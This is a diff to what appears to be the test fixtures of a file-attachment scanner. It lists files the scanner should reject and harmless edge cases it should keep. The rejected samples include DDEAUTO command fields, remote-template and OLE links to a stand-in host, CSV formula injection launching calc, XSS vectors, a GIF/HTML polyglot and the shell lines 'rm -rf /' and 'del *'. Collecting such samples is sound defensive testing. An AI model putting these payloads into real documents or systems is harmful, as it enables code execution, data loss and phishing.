@@ -30,6 +30,15 @@ def office(**parts: bytes) -> bytes:
     return target.getvalue()
 
 
+def rels(kind: str) -> bytes:
+    """What a document refers to outside itself."""
+    place = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+    return (
+        f"<Relationships><Relationship Id='r1' TargetMode='External' Type=\"{place}/{kind}\" "
+        "Target='https://kwaad.example/x'/></Relationships>"
+    ).encode()
+
+
 LAUNCHERS = ("command", "slk", "iqy", "jnlp", "application", "pl", "rb", "rdp", "desktop", "ps1xml")
 # Kind → names and contents that a PDF may not carry.
 CARRIED: dict[str, list[tuple[str, bytes]]] = {
@@ -45,6 +54,10 @@ CARRIED: dict[str, list[tuple[str, bytes]]] = {
         ("cijfers.csv", office(xl__media__plaatje_png=MACROS)),
         ("cijfers.xlsx", office(xl__macrosheets__blad1_xml=b"<x/>")),
         ("cijfers.xls", MACROS),
+        ("brief.docx", office(word___rels__document_xml_rels=rels("oleObject"))),
+        ("brief.docx", office(word___rels__settings_xml_rels=rels("attachedTemplate"))),
+        ("cijfers.xlsx", office(xl__externalLinks__een_xml=b"<externalLink><ddeLink/></x>")),
+        ("brief.docx", office(word__document_xml=b"<w:instrText> DDEAUTO c:\\cmd</w:instrText>")),
     ],
     "embedded_script": [
         ("factuur.txt", b"#!/bin/sh\nrm -rf /"),
@@ -55,6 +68,11 @@ CARRIED: dict[str, list[tuple[str, bytes]]] = {
         ("factuur.vbs . ", b"x = 1"),
         ("factuur.txt", "\ufeff<script>x</script>".encode("utf-16-le")),
         ("factuur.csv", b"@echo off\r\ndel *"),
+        ("factuur.html", b"GIF89a=1;<script>alert(1)</script>"),
+        ("factuur.html", b"Beste<svg/onload=alert(1)>"),
+        ("factuur.html", b"Beste <img src='x'onerror=alert(1)>"),
+        ("factuur.xml", b"<a><iframe srcdoc='&lt;script&gt;x'/></a>"),
+        ("factuur.csv", b"nr;=1+cmd|'/c calc'!A0"),
         ("factuur.csv", b"ID;P\nO;E\nC;X1;Y1;K0;EEXEC(1)\n"),
         *((f"factuur.{each}", b"open https://kwaad.example") for each in LAUNCHERS),
     ],
@@ -67,6 +85,10 @@ CARRIED: dict[str, list[tuple[str, bytes]]] = {
         ("beschadigd.pdf", b"%PDF-1.7\n"),
         ("factuur.ahk", b"Run calc"),
         ("factuur.nog-niet-bedacht", b"Run calc"),
+        ("pagina.html", b"Beste klant, log opnieuw in"),
+        ("foto.html", b"GIF89a=1;"),
+        ("brief.rtf", b"{\\rtf1{\\*\\template http://kwaad.example/x}}"),
+        ("brief.rtf", b"{\\rtf1{\\field{\\*\\fldinst DDEAUTO cmd}}}"),
     ],
     "embedded_active": [("brief.pdf", a_pdf(opens_with(script())))],
 }
@@ -91,6 +113,14 @@ KEPT: list[tuple[str, bytes]] = [
     ("cijfers.xlsx", office(xl__printerSettings1_bin=b"\x00\x01")),
     ("foto.jpg", b"\xff\xd8\xff\xe0" + bytes(40)),
     ("stukken.zip", archive(factuur_xml=INVOICE)),
+    ("brief.docx", office(word___rels__document_xml_rels=rels("hyperlink"))),
+    ("leeg.txt", b"\n" * 600_000),
+    ("factuur.xml", b"<a " + b"\t" * 400_000 + b"/>"),
+    ("factuur.xml", b"<?a?>" * 34 + b"!"),
+    ("factuur.xml", b"<!--a-->" * 34 + b"!"),
+    ("grootboek.csv", b"=a|," * 20_000),
+    ("foto", b"\x89PNG\r\n\x1a\n" + bytes(40)),
+    ("brief.rtf", b"{\\rtf1 Beste Anna}"),
 ]
 
 
